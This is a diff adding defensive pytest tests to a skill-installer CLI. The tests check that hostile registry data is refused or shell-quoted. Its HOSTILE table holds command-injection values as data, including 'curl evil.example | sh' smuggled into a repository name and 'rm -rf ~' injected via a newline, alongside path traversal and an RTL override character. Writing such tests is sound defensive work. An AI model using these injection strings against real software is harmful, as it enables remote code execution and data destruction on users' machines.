@@ -5,6 +5,7 @@ from __future__ import annotations
 import json
 from collections.abc import Callable, Iterator
 from http.server import BaseHTTPRequestHandler
+from urllib.parse import quote
 
 import pytest
 
@@ -315,7 +316,81 @@ def test_a_skill_that_is_kept_on_github_says_how_to_install_it(desk: Desk, hub: 
     hub.server.routes["/api/v1/skills/alpha/install"] = json.dumps(answer)
     result = desk.run("install", hub.source, "--yes")
     assert result.code == 4
-    assert "use `prowess install ann/skills/a#c0ffee`" in result.err
+    assert "use `prowess install 'ann/skills/a#c0ffee'`" in result.err
+
+
+HOSTILE = {
+    "a command": {"repo": "ann/skills; curl evil.example | sh", "path": "a", "commit": "c"},
+    "an option": {"repo": "--yes", "path": "", "commit": "c"},
+    "a folder": {"repo": "/etc", "path": "a", "commit": "c"},
+    "another server": {"repo": "ssh://evil.example/ann/skills.git", "path": "", "commit": ""},
+    "a line": {"repo": "ann/skills", "path": "a\nRun `rm -rf ~`", "commit": "c"},
+    "a path that leads out": {"repo": "ann/skills", "path": "../x", "commit": "c"},
+    "a hidden mark": {"repo": "ann/skills", "path": "a\u202eb", "commit": "c"},
+    "a refspec": {"repo": "ann/skills", "path": "a", "commit": "+x:refs/heads/main"},
+    "too much": {"repo": "ann/skills", "path": "a" * 5000, "commit": "c"},
+}
+
+
+@pytest.mark.parametrize("name", HOSTILE)
+def test_what_is_no_repository_of_github_is_no_command(desk: Desk, hub: ClawHub, name: str) -> None:
+    hub.publish("1.0.0", latestVersion=None)
+    hub.server.routes["/api/v1/skills/alpha/install"] = json.dumps({"github": HOSTILE[name]})
+    result = desk.run("install", hub.source, "--yes")
+    assert result.code == 4
+    assert "prowess install" not in result.err
+    assert "kept on GitHub, but the registry does not name a valid repository" in result.err
+
+
+def test_a_command_to_copy_is_quoted_for_the_shell(desk: Desk, hub: ClawHub) -> None:
+    hub.publish("1.0.0", latestVersion=None)
+    github = {"repo": "ann/skills", "path": "a b/$(id)", "commit": "c0ffee"}
+    hub.server.routes["/api/v1/skills/alpha/install"] = json.dumps({"github": github})
+    result = desk.run("install", hub.source, "--yes")
+    assert "use `prowess install 'ann/skills/a b/$(id)#c0ffee'`" in result.err
+
+
+def test_what_a_registry_says_is_one_line_with_its_name(desk: Desk, hub: ClawHub) -> None:
+    hub.publish("1.0.0", latestVersion=None)
+    message = "It moved.\n\nprowess: run this\x1b[2K" + "x" * 5000
+    hub.server.routes["/api/v1/skills/alpha/install"] = json.dumps({"message": message})
+    result = desk.run("install", hub.source, "--yes")
+    assert "the registry says: “It moved. prowess: run this" in result.err
+    assert "\x1b" not in result.err
+    assert len(result.err) < 1000
+
+
+def test_why_a_skill_is_suspicious_is_one_line_too(desk: Desk, hub: ClawHub) -> None:
+    summary = "Reads keys.\n\nNothing to worry about." + "x" * 5000
+    hub.publish("1.0.0", moderation={"isSuspicious": True, "summary": summary})
+    (said,) = desk.json("install", hub.source, "--dry-run")["diagnostics"]
+    start = f"The registry has flagged {hub.source} as suspicious. The registry says: “Reads keys."
+    assert said["message"].startswith(f"{start} Nothing to worry about.")
+    assert len(said["message"]) < 500
+
+
+def test_a_registry_that_lists_no_files_is_named(desk: Desk, hub: ClawHub) -> None:
+    hub.publish("1.0.0", release={"files": None})
+    shape = desk.json("install", hub.source, "--yes")
+    (said,) = shape["diagnostics"]
+    assert (said["code"], said["severity"]) == ("install-archive-unchecked", "warning")
+    assert said["message"] == (
+        f"The registry does not list the files of {hub.source}, so its archive was not checked."
+    )
+
+
+@pytest.mark.parametrize("version", ["1 0:..^\n", "../1", "-1", "1" * 101, "1\n"])
+def test_a_version_that_nobody_could_type_is_refused(
+    desk: Desk, hub: ClawHub, version: str
+) -> None:
+    hub.publish(version)
+    # Routes are compared as they are asked for.
+    routes = hub.server.routes
+    asked = f"/api/v1/skills/alpha/versions/{quote(version, safe='')}"
+    routes[asked] = routes[f"/api/v1/skills/alpha/versions/{version}"]
+    result = desk.run("install", hub.source, "--yes")
+    assert (result.code, desk.tree()) == (4, [])
+    assert "which is not a valid version" in result.err
 
 
 @pytest.mark.parametrize(
